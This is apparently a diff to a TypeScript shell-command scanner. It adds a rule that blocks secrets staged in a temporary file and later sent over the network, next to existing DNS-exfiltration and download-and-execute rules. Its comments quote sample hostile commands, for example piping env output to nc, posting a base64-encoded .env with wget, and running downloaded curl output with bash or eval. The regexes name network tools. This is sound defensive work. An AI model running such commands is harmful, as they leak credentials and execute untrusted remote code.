@@ -85,9 +85,43 @@ export function dataflow(ctx: Ctx): void {
     if (DNS_TOOLS.has(net.exe) && net.dynamicArgs && (net.args.some((a) => (/\$\(|`/.test(a) && /\.[a-z]{2,}/i.test(a)) || /\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?\.[A-Za-z0-9-]{1,63}\.[A-Za-z]{2,}/.test(a)) || (net.exe.startsWith("ping") && net.args.some((a, k) => a === "-p" && /\$/.test(net.args[k + 1] ?? "")))))
       addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.dns-exfil", decision: "block", taxonomy: "data-exfiltration/covert-channel/dns-exfiltration", description: "command output encoded into a DNS query", cmd: net });
   });
+  stagedSecrets(ctx, byPipe);
   // `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `python3 -c "$(curl …)"`.
   for (const c of ctx.parsed.cmds) {
     if ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "eval" || c.exe === "source" || c.exe === ".") && [...c.args, c.script ?? ""].some((a) => /\$\((?:[^)]{0,40}\/)?(?:curl|wget|fetch)\b|`(?:curl|wget)\b|<\(\s{0,4}(?:curl|wget)\b/.test(a)))
       addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.download-exec", decision: "block", taxonomy: "unauthorized-execution/remote-code/download-and-execute", description: `downloaded content is executed by '${redactPreview(c.exe, 16)}'`, cmd: c });
   }
+}
+
+/** Files written by a pipeline: redirect targets and tee operands. */
+function pipelineWrites(ctx: Ctx, idxs: readonly number[]): string[] {
+  const out: string[] = [];
+  for (const i of idxs) {
+    const c = ctx.parsed.cmds[i] as SimpleCmd;
+    for (const r of c.redirs) if (r.op === ">" || r.op === ">>" || r.op === ">|" || r.op === "&>" || r.op === "&>>") out.push(r.target);
+    if (c.exe === "tee") for (const a of c.args) if (!a.startsWith("-")) out.push(a);
+  }
+  return out.filter((t) => t.length > 0 && !/^\d+$/.test(t) && !t.startsWith("/dev/"));
+}
+
+/**
+ * Secrets staged in a file and sent later in the same script: `env > /tmp/e; nc host 4444 <
+ * /tmp/e`, `cat .env | base64 > /tmp/x && wget --post-file=/tmp/x …`. A pipeline that reads a
+ * secret (hard or soft) and writes a file taints that file; a later network command that names
+ * it (operand, @file, --post-file=, stdin redirect) is exfiltration.
+ */
+function stagedSecrets(ctx: Ctx, byPipe: Map<number, number[]>): void {
+  const tainted: { file: string; pipe: number }[] = [];
+  for (const [pipe, idxs] of byPipe) {
+    if (!idxs.some((i) => readsSecret(ctx.parsed.cmds[i] as SimpleCmd) !== undefined)) continue;
+    for (const f of pipelineWrites(ctx, idxs)) tainted.push({ file: f, pipe });
+  }
+  if (tainted.length === 0) return;
+  ctx.parsed.cmds.forEach((c, i) => {
+    if (!isNet(ctx, i)) return;
+    const names = [...c.args, ...c.redirs.filter((r) => r.op === "<").map((r) => r.target)];
+    const hit = tainted.find((t) => t.pipe !== c.pipe && names.some((a) => a === t.file || a.endsWith(`@${t.file}`) || a.endsWith(`=${t.file}`) || a.endsWith(`=@${t.file}`)));
+    if (hit !== undefined)
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.staged-secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `a file holding sensitive data is sent by '${redactPreview(c.exe, 16)}'`, cmd: c });
+  });
 }
